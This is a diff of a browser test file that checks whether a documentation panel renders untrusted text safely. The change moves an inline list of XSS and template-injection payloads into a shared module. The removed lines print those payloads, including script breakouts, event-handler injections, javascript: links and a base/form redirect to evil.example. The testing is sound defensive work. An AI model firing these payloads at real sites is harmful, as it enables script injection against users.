@@ -2,27 +2,10 @@ import { expect, test } from "vitest";
 import type { Page } from "playwright-core";
 import { browserGroup } from "../support/browser.js";
 import { useBrowserPages } from "../support/browser-pages.js";
+import { HOSTILE_MARKUP } from "../support/hostile-markup.js";
 import { nextFrame, openPanel } from "../support/panel-page.js";
 
 const PAGE = "/answers/operations/get-thing/";
-
-/** Texts that would act if any part of the panel took them for markup or code. */
-const PAYLOADS = [
-  "<img src=x onerror=PWNED=1>",
-  '"><script>PWNED=1</script>',
-  "</script><script>PWNED=1</script>",
-  "'-PWNED=1-'",
-  "{{ constructor.constructor('PWNED=1')() }}",
-  "${PWNED=1}",
-  "[x](javascript:PWNED=1)",
-  '<a href="java&#10;script:PWNED=1">x</a>',
-  "<svg><animate onbegin=PWNED=1>",
-  '<div x-init="PWNED=1" x-data>',
-  "<math><mtext><style><img src=x onerror=PWNED=1>",
-  '<iframe srcdoc="<script>parent.PWNED=1</script>">',
-  "');PWNED=1;('",
-  '<base href="https://evil.example/"><form action="//evil.example"><input name=q>',
-];
 
 /** Keys whose values are words of ours or of a specification. */
 const WORDS = /^(in|style|relation|types?|contentType|languages|route|proxy|credentials|method)$/;
@@ -43,7 +26,7 @@ function poison(value: unknown, text: string): unknown {
 browserGroup("the panel takes texts of the document as texts", () => {
   const pages = useBrowserPages("panel");
 
-  test.each(PAYLOADS)("%s", async (payload) => {
+  test.each(HOSTILE_MARKUP)("%s", async (payload) => {
     const { page, complaints } = await pages.open("/answers/");
     await page.route("**/panel.json", async (route) => {
       const file = (await (await route.fetch()).json()) as object;
